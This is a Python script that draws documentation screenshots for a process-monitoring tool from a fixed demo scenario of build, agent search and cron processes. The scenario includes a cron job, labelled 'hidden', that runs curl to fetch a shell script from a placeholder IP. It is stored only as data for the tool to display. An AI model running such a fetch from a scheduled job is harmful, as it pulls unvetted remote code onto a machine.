"""Draws the pictures of the documentation: real screens, of a story that is always the same, by rich's own export.

    python docs/pictures.py [ROOT]

A test compares what this writes with what is in the repository.
"""

from __future__ import annotations

import io
import os
import re
import sys
import time
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.text import Text

from proc_cache.engine.stats import CacheStats, Stats
from proc_cache.events import Exec
from proc_cache.kernel.users import UserNames
from proc_cache.process import Node, Process, Source, freeze
from proc_cache.query import Chain, Walk
from proc_cache.render.glyphs import UNICODE
from proc_cache.render.live import Frame, Rates, draw
from proc_cache.render.spans import plain
from proc_cache.render.style import Style
from proc_cache.render.tree import draw_chain, draw_forest
from proc_cache.service.facts import Told, ToldUsers
from proc_cache.service.picture import Picture, Spawner

SECOND_NS = 1_000_000_000
MS_NS = 1_000_000
BOOTED_NS = 1_790_000_000 * SECOND_NS  # 2026-09-21T13:33:20Z
NOW_NS = 86_000 * SECOND_NS
USERS = ToldUsers(UserNames({0: "root", 1000: "alice", 33: "www-data"}))


class Story:
    """A developer's machine: an agent searches code by the thousand, a build runs, cron does what it does."""

    def __init__(self) -> None:
        self._pid = 9000
        systemd = self.process(1, None, "systemd", ["/sbin/init"], 0, ago_ms=86_000_000)
        sshd = self.process(880, systemd, "sshd", ["sshd: /usr/sbin/sshd -D"], 0, ago_ms=85_000_000)
        shell = self.process(1170, sshd, "bash", ["-bash"], 1000, ago_ms=3_600_000)
        self.agent = self.process(1204, shell, "agent", ["agent", "--watch", "src"], 1000, ago_ms=1_200_000)
        self.make = self.process(8812, shell, "make", ["make", "-j8"], 1000, ago_ms=21_400)
        cron = self.process(642, systemd, "cron", ["/usr/sbin/cron", "-f"], 0, ago_ms=85_000_000)
        self.programs: list[Told] = []
        self._build()
        self._search()
        hourly = self.start(cron, "sh", ["/bin/sh", "-c", "run-parts /etc/cron.hourly"], 0, 412)
        parts = self.start(hourly, "run-parts", ["run-parts", "/etc/cron.hourly"], 0, 410)
        self.hidden = self.start(
            parts, "curl", ["curl", "-fsS", "http://203.0.113.9/x.sh"], 0, 404, ran_ms=231, status=22 << 8
        )
        self.programs.sort(key=lambda told: -told.time_ns)

    def process(  # noqa: PLR0913
        self, pid: int, parent: Node | None, name: str, arguments: list[str], uid: int, *, ago_ms: float
    ) -> Node:
        """Make one that was born so long ago, and lives."""
        start_ns = NOW_NS - int(ago_ms * MS_NS)
        ppid = 0 if parent is None else parent.pid
        cmdline = "".join(f"{argument}\0" for argument in arguments).encode()
        return Node(pid, start_ns, ppid, Source.FORK, parent, name, Source.EXEC, uid, None, cmdline)

    def start(  # noqa: PLR0913
        self,
        parent: Node,
        name: str,
        arguments: list[str],
        uid: int,
        ago_ms: float,
        *,
        ran_ms: float = 0,
        status: int = 0,
    ) -> Node:
        """Let one run a program, and end where `ran_ms` says after how long."""
        self._pid += 7
        node = self.process(self._pid, parent, name, arguments, uid, ago_ms=ago_ms)
        if ran_ms:
            node.exit_ns, node.exit_status = node.start_ns + int(ran_ms * MS_NS), status
        walked: list[Node] = []
        current: Node | None = node
        while current is not None:
            walked.append(current)
            current = current.parent
        self.programs.append(Told(Exec, node.start_ns, Walk(tuple(walked), None, None), None))
        return node

    def _build(self) -> None:
        for number, unit in enumerate(("lexer", "parser", "types", "emit")):
            shell = self.start(self.make, "sh", ["sh", "-c", f"gcc -O2 -c {unit}.c"], 1000, 960 - 180 * number)
            gcc = self.start(shell, "gcc", ["gcc", "-O2", "-c", f"{unit}.c"], 1000, 955 - 180 * number)
            failed = unit == "types"
            compiler = ["cc1", "-quiet", f"{unit}.c", "-O2"]
            self.start(
                gcc,
                "cc1",
                compiler,
                1000,
                950 - 180 * number,
                ran_ms=0 if number == 3 else 318,
                status=256 * failed,
            )
            if failed:
                for node in (gcc, shell):
                    node.exit_ns, node.exit_status = NOW_NS - 250 * MS_NS, 256

    def _search(self) -> None:
        for number in range(3):
            shell = self.start(
                self.agent,
                "sh",
                ["sh", "-c", "rg -l TODO | xargs ast-grep"],
                1000,
                90 - 30 * number,
                ran_ms=24 if number < 2 else 0,
            )
            for place, path in enumerate(("api.py", "cli.py", "core.py", "wire.py")):
                self.start(
                    shell,
                    "ast-grep",
                    ["ast-grep", "run", "-p", "TODO", f"src/{path}"],
                    1000,
                    85 - 30 * number - 5 * place,
                    ran_ms=2.4 + place,
                )


def frozen(node: Node) -> Process:
    """Freeze what is known of a process of the story."""
    user = USERS.user(node)
    return freeze(
        node,
        current_ppid=node.ppid,
        current_parent=None,
        user=user,
        birth_user=user,
        booted_ns=BOOTED_NS,
        is_alive=not node.exit_ns,
    )


def live_frame(story: Story, **told: object) -> Frame:
    """Give a moment of the live view."""
    waves = [40 + 30 * (second % 13 in (3, 4)) + (second > 22) * 420 + (second * 37 % 90) for second in range(60)]
    rates = tuple(
        Rates(name, seconds[-1], max(seconds), tuple(seconds))
        for name, seconds in (
            ("fork", [float(each) for each in waves]),
            ("exec", [each * 0.97 for each in waves]),
            ("exit", [float(each) for each in [38, *waves[:-1]]]),
        )
    )
    spawners = (
        Spawner(1204, "agent", True, 3740, "ast-grep", 3646, "sh", 94, 3646),
        Spawner(8812, "make", True, 1312, "cc1", 421, "gcc", 421, 842),
        Spawner(642, "cron", True, 36, "run-parts", 12, "sh", 12, 24),
        Spawner(1170, "bash", True, 9, "git", 6, None, 0, 0),
    )
    births = {(1204, "agent"): 455.0, (8812, "make"): 41.0}
    fields = {
        "host": "build-3",
        "now_ns": NOW_NS,
        "rows_now_ns": NOW_NS,
        "booted_ns": BOOTED_NS,
        "since_ns": NOW_NS - 63 * SECOND_NS,
        "picture": Picture(counters(), tuple(story.programs), spawners),
        "programs": tuple(story.programs),
        "rates": rates,
        "births_per_s": births,
        "user": USERS.user,
        "order": "newest",
        "is_tree": True,
        "is_paused": False,
        "text": "",
        "is_typing": False,
        "has_keys": True,
    }
    return Frame(**{**fields, **told})  # type: ignore[arg-type]


def counters() -> Stats:
    """Give the counters of an engine that has seen something."""
    figures: dict[str, Any] = dict.fromkeys(Stats._fields, 0)
    figures |= {"receive_buffer_bytes": 128 << 20, "longest_pause_ns": 1_490_000, "records": 81_204, "scans": 1}
    figures |= {"forks": 40_911, "execs": 39_870, "exits": 40_302, "alive": 412, "dead": 40_290}
    figures["oldest_exit_ns"] = NOW_NS - 566 * SECOND_NS
    caches = (
        CacheStats("processes", 40_702, 65_536, 311, 2, 1_804, 0),
        CacheStats("users", 3, 4096, 82_190, 3, 0, 0),
    )
    more: dict[str, Any] = {
        "no_records": None,
        "priority": "realtime",
        "lost_is_exact": True,
        "floods": (),
        "caches": caches,
    }
    return Stats(**{**figures, **more})


def live_picture(columns: int, rows: int, **told: object) -> str:
    """Draw the live view at a size."""
    drawn = draw(live_frame(Story(), **told), columns, rows, UNICODE)
    assert all("\x1b" not in plain(line) for line in drawn.lines)
    return as_svg([Text.assemble(*line) for line in drawn.lines], columns, "proc-cache watch")


def chain_picture() -> str:
    """Draw one chain as a tree."""
    node = Story().hidden
    links = []
    current: Node | None = node
    while current is not None:
        links.append(frozen(current))
        current = current.parent
    chain = Chain(node.pid, True, None, 0, tuple(links), None, False)
    return as_svg(_styled(draw_chain(chain, _STYLE)), _STYLE.width or 0, f"proc-cache chain {node.pid}")


def snapshot_picture() -> str:
    """Draw all that lives as a tree."""
    living: dict[int, Node] = {}
    for told in Story().programs:
        living |= {node.pid: node for node in told.walked.nodes if not node.exit_ns}
    processes = [frozen(living[pid]) for pid in sorted(living)]
    text = "\n".join(draw_forest(processes, _STYLE))
    return as_svg(_styled(text), _STYLE.width or 0, "proc-cache snapshot --format tree")


_STYLE = Style(is_coloured=True, width=100)


def _styled(text: str) -> list[Text]:
    return [Text.from_ansi(line) for line in text.split("\n")]


def as_svg(lines: list[Text], columns: int, title: str) -> str:
    """Write lines of a screen as a picture."""
    console = Console(
        width=columns, file=io.StringIO(), record=True, force_terminal=True, color_system="truecolor", _environ={}
    )
    for line in lines:
        console.print(line, no_wrap=True, crop=True, overflow="crop")
    return _LEADING.sub(_moved, console.export_svg(title=title, unique_id="proc-cache")).rstrip() + "\n"


_COLUMN = 12.2  # of rich's export
_LEADING = re.compile(r'x="([\d.]+)" y="([\d.]+)" textLength="([\d.]+)"([^>]*)>((?:&#160;)+)(?=[^<&])')


def _moved(found: re.Match[str]) -> str:
    """Put a place for leading spaces: some programs leave them out when they draw."""
    x, y, length, more, spaces = found.groups()
    taken = spaces.count(";") * _COLUMN
    return f'x="{float(x) + taken:.1f}" y="{y}" textLength="{float(length) - taken:.1f}"{more}>'


def pictures(root: Path) -> dict[Path, str]:
    """Give each file and what belongs into it."""
    os.environ["TZ"] = "UTC"
    time.tzset()
    directory = root / "docs" / "pictures"
    programs = tuple(sorted(Story().programs, key=lambda told: not told.node.exit_status))
    return {
        directory / "live-80x24.svg": live_picture(80, 24),
        directory / "live-120x40.svg": live_picture(120, 40),
        directory / "live-failures.svg": live_picture(
            100,
            32,
            programs=programs,
            order="failed",
            is_paused=True,
            selected=programs[2].node.identity(),
        ),
        directory / "chain.svg": chain_picture(),
        directory / "snapshot-tree.svg": snapshot_picture(),
    }


def main() -> None:
    """Write all of them."""
    root = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parents[1]
    for path, text in pictures(root).items():
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)


if __name__ == "__main__":
    main()
